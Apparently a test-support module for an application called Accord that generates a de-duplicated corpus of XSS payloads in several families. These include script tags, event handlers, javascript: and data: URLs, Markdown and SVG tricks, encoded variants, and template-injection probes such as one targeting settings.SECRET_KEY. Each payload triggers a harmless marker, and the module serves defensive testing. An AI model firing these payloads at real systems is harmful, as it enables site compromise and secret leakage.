"""The XSS attack corpus: strings people could type into any text field of Accord.

Every payload, if a browser ever ran it, calls one of the MARKERS: `alert(1)` / `confirm(1)` /
`prompt(1)` (caught by a dialog trap) or sets `window.__xss` / `document.title = 'pwned'`. So
"nothing executed" is something a test can check, not something it hopes.

The families are generated: a handful of shapes multiplied by case, whitespace, quoting and
encoding variants, then de-duplicated. `PAYLOADS` keeps the order stable so that chunks (several
payloads packed into one length-limited field) are the same on every run.
"""

from __future__ import annotations

from dataclasses import dataclass
from html import escape as html_escape
from urllib.parse import quote

# What a payload does when it runs. Each is detectable from the page.
ALERT = "alert(1)"
XSS_FLAG = "window.__xss=1"
TITLE = "document.title='pwned'"
CONFIRM = "confirm(1)"
PROMPT = "prompt(1)"
MARKERS = (ALERT, XSS_FLAG, TITLE, CONFIRM, PROMPT)
PWNED_TITLE = "pwned"


@dataclass(frozen=True)
class Payload:
    family: str
    text: str


def _entities(text: str) -> str:
    """Every character as a decimal character reference: &#106;&#97;..."""
    return "".join(f"&#{ord(c)};" for c in text)


def _hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def _script_tags() -> list[str]:
    out = []
    for marker in (ALERT, XSS_FLAG, TITLE):
        out += [
            f"<script>{marker}</script>",
            f"<SCRIPT>{marker}</SCRIPT>",
            f"<ScRiPt>{marker}</sCrIpT>",
            f"<script >{marker}</script >",
            f"<script\n>{marker}</script\n>",
            f"<script\t type='text/javascript'>{marker}</script>",
            f"<script/x>{marker}</script>",
        ]
    out += [
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>document.title='pwned'</script>",
        "</q><script>alert(1)</script>",
        "</code></pre><script>alert(1)</script>",
        "</script><script>window.__xss=1</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)//<</script>/script>",
        "<script type=module>window.__xss=1</script>",
        "<script>eval('al'+'ert(1)')</script>",
        "<script src=data:text/javascript,alert(1)></script>",
        "<script src=//example.invalid/x.js>alert(1)</script>",
        "<script>alert`1`</script>",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
    ]
    return out


def _event_handlers() -> list[str]:
    out = [
        "<img src=x onerror=alert(1)>",
        '<img src="x" onerror="alert(1)">',
        "<img src='x' onerror='window.__xss=1'>",
        "<IMG SRC=x ONERROR=alert(1)>",
        "<img/src/onerror=alert(1)>",
        "<img src=x\tonerror=alert(1)>",
        "<img src=x\nonerror=document.title='pwned'>",
        "<img src=x onerror  =  alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=1>",
        "<image src=x onerror=confirm(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=window.__xss=1>",
        "<SVG ONLOAD=prompt(1)>",
        "<body onload=alert(1)>",
        "<body onpageshow=window.__xss=1>",
        "<details open ontoggle=alert(1)>",
        "<details/open/ontoggle=document.title='pwned'>",
        "<video><source onerror=alert(1)></video>",
        "<video src=x onerror=window.__xss=1></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=window.__xss=1></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<iframe onload=alert(1)></iframe>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<object data=x onerror=alert(1)></object>",
        "<a onmouseover=alert(1)>hover me</a>",
        "<div onpointerenter=alert(1)>point at me</div>",
        "<x onclick=alert(1)>click me</x>",
        "<b onanimationstart=alert(1) style=animation-name:x>x</b>",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
        '" autofocus onfocus="alert(1)',
        "' autofocus onfocus='alert(1)",
        '" onmouseover="alert(1)" x="',
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        "<img src=`x` onerror=`alert(1)`>",
        '<img src=x onerror="javascript:alert(1)">',
        "<form><button formaction=javascript:alert(1)>go</button></form>",
        "<input type=image src=x onerror=alert(1)>",
    ]
    return out


def _url_payloads() -> list[str]:
    js = "javascript:alert(1)"
    out = [
        f"[click me]({js})",
        "[click me](JaVaScRiPt:alert(1))",
        "[click me](javascript&#58;alert(1))",
        "[click me](javascript&colon;alert(1))",
        "[click me](  javascript:alert(1)  )",
        "[click me](<javascript:alert(1)>)",
        "[click me](javascript://%0aalert(1))",
        '[click me](javascript:window.__xss=1 "title")',
        "[click me](\tjavascript:alert(1))",
        "[click me](javascript%3Aalert(1))",
        "[click me](java\u200bscript:alert(1))",
        "[click me](vbscript:msgbox(1))",
        "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click me](data:text/html,<script>alert(1)</script>)",
        f"![image]({js})",
        '![image](x" onerror="alert(1))',
        '![image](https://example.org/a.png"onload="alert(1))',
        '[click me](https://example.org/"onmouseover="alert(1))',
        '[click me](#"onmouseover="alert(1))',
        '[click me](https://example.org "a" onmouseover="alert(1)")',
        '[click me](https://example.org "\\" onmouseover=\\"alert(1)")',
        f'<a href="{js}">raw link</a>',
        '<a href="JAVASCRIPT:alert(1)">raw link</a>',
        '<a href=" javascript:alert(1)">raw link</a>',
        '<a href="jav&#x09;ascript:alert(1)">raw link</a>',
        '<a href="jav&#x0A;ascript:alert(1)">raw link</a>',
        f'<a href="{_entities("javascript:")}alert(1)">raw link</a>',
        f'<a href="{_hex_entities("javascript")}:window.__xss=1">raw link</a>',
        '<a href="data:text/html,<script>alert(1)</script>">raw link</a>',
        '<a href="vbscript:msgbox(1)">raw link</a>',
        '<form action="javascript:alert(1)"><input type=submit></form>',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<embed src="javascript:alert(1)">',
        '<object data="javascript:alert(1)"></object>',
        '<base href="javascript:alert(1)//">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<math><a xlink:href="javascript:alert(1)">math link</a></math>',
        '<isindex action="javascript:alert(1)" type="image">',
        '<area href="javascript:alert(1)">',
        js,
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
    ]
    return out


def _markdown_tricks() -> list[str]:
    return [
        "[ref link][evil]\n\n[evil]: javascript:alert(1)",
        '[evil2]\n\n[evil2]: javascript:window.__xss=1 "title"',
        "[evil3][]\n\n[evil3]: <javascript:alert(1)>",
        "![ref image][evilimg]\n\n[evilimg]: javascript:alert(1)",
        "[ref link][evil4]\n\n[evil4]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "<javascript:alert(1)>",
        "<data:text/html,alert(1)>",
        "<vbscript:msgbox(1)>",
        '<https://example.org/"onmouseover="alert(1)>',
        '<mailto:x@example.org?"onmouseover="alert(1)>',
        "```\n</code></pre><script>alert(1)</script>\n```",
        '```js" onmouseover="alert(1)\ncode\n```',
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        '*[HTML]: "><script>alert(1)</script>\n\nHTML here',
        '*[ABBR]: " onmouseover="alert(1)\n\nABBR here',
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
        "> <script>alert(1)</script>",
        "- <svg onload=alert(1)>",
        "# <img src=x onerror=alert(1)>",
        '<div markdown="1"><script>alert(1)</script></div>',
        "[<img src=x onerror=alert(1)>](https://example.org)",
        "[x](https://example.org)<script>alert(1)</script>",
        "**<script>alert(1)</script>**",
        "[PLACEHOLDER <script>alert(1)</script>]",
    ]


def _encoded() -> list[str]:
    return [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
        "&#0000060;script&#0000062;alert(1)&#0000060;/script&#0000062;",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        quote("<img src=x onerror=alert(1)>"),
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
        "<img src=x onerror=\\u0061lert(1)>",
        "<script>\\u0061lert(1)</script>",
        "<script>alert&#40;1&#41;</script>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u202e<img src=x onerror=alert(1)>\u202c",
        html_escape("<svg onload=alert(1)>"),
        "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
        "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
        "<img src=x onerror=top['al'+'ert'](1)>",
        "<img src=x onerror=window['__x'+'ss']=1>",
        '<img src=x onerror="alert\u2028(1)">',
    ]


def _svg() -> list[str]:
    return [
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<svg><script xlink:href=data:,window.__xss=1></script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=onload to=alert(1) />",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
        '<image href=1 onerror=alert(1) /></svg>#x" />',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'pwned\'"/>',
    ]


def _frames_and_styles() -> list[str]:
    return [
        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
        '<iframe srcdoc="&lt;script&gt;parent.window.__xss=1&lt;/script&gt;"></iframe>',
        '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
        "<frameset onload=alert(1)>",
        '<div style="background:url(javascript:alert(1))">styled</div>',
        '<div style="width:expression(alert(1))">styled</div>',
        "<style>@import 'javascript:alert(1)';</style>",
        '<style>*{background:url("javascript:alert(1)")}</style>',
        '<link rel="stylesheet" href="javascript:alert(1)">',
        '<p style="behavior:url(#default#time2)" onbegin="alert(1)">x</p>',
        '<xss style="x:expression(alert(1))">',
        "<template><script>alert(1)</script></template>"
        "<img src=x onerror=\"document.title='pwned'\">",
    ]


def _template_injection() -> list[str]:
    return [
        "{{ 7*7 }}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% debug %}",
        "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
        "{{ settings.SECRET_KEY }}",
        "${alert(1)}",
        "#{alert(1)}",
        "<%= alert(1) %>",
        "[[${alert(1)}]]",
        "{{#with \"s\" as |string|}}{{string.constructor.constructor 'alert(1)'}}{{/with}}",
        "<div ng-app>{{$on.constructor('window.__xss=1')()}}</div>",
        "'-alert(1)-'",
        '";alert(1);//',
        "</script><svg onload=alert(1)>",
    ]


def _control_characters() -> list[str]:
    """Characters XML cannot hold and terminals act on (issue 21: one in a stored text broke an
    Atom feed until it left the feed window). NUL is refused at every entry point and PostgreSQL
    cannot store it, so it is tested there (tests/security/test_control_characters.py)."""
    return [
        "Vertical\x0btab and <b onmouseover=alert(1)>bold</b>",
        "\x01<script>alert(1)</script>\x1f",
        "<img src=x onerror=alert(1)\x0b>",
        "[link](java\x01script:alert(1))",
        "Unit\x1fseparator, escape \x1b[31mred\x1b[0m, form feed\x0c, delete\x7f "
        "<script>alert(1)</script>",
        "\x08\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e<svg onload=alert(1)>",
    ]


FAMILIES = {
    "script tags": _script_tags,
    "event handlers": _event_handlers,
    "javascript:/data: URLs": _url_payloads,
    "Markdown tricks": _markdown_tricks,
    "encoded variants": _encoded,
    "SVG and MathML": _svg,
    "frames and styles": _frames_and_styles,
    "template injection": _template_injection,
    "control characters": _control_characters,
}


def _build() -> list[Payload]:
    seen: set[str] = set()
    out = []
    for family, make in FAMILIES.items():
        for text in make():
            if text not in seen:
                seen.add(text)
                out.append(Payload(family, text))
    return out


PAYLOADS: list[Payload] = _build()
TEXTS: list[str] = [p.text for p in PAYLOADS]
# Payloads on one line, for fields shown on one line (titles, names, headings).
ONE_LINE: list[str] = [t for t in TEXTS if "\n" not in t]


def pack(texts: list[str], *, limit: int, sep: str = " ") -> list[str]:
    """Pack payloads into as few strings as possible, each at most `limit` characters, in
    order. A payload longer than `limit` is left out (the caller reports which)."""
    chunks: list[str] = []
    current = ""
    for text in texts:
        if len(text) > limit:
            continue
        candidate = f"{current}{sep}{text}" if current else text
        if len(candidate) <= limit:
            current = candidate
        else:
            chunks.append(current)
            current = text
    if current:
        chunks.append(current)
    return chunks


def fitting(texts: list[str], limit: int) -> list[str]:
    return [t for t in texts if len(t) <= limit]


def by_family() -> dict[str, int]:
    counts: dict[str, int] = {}
    for p in PAYLOADS:
        counts[p.family] = counts.get(p.family, 0) + 1
    return counts
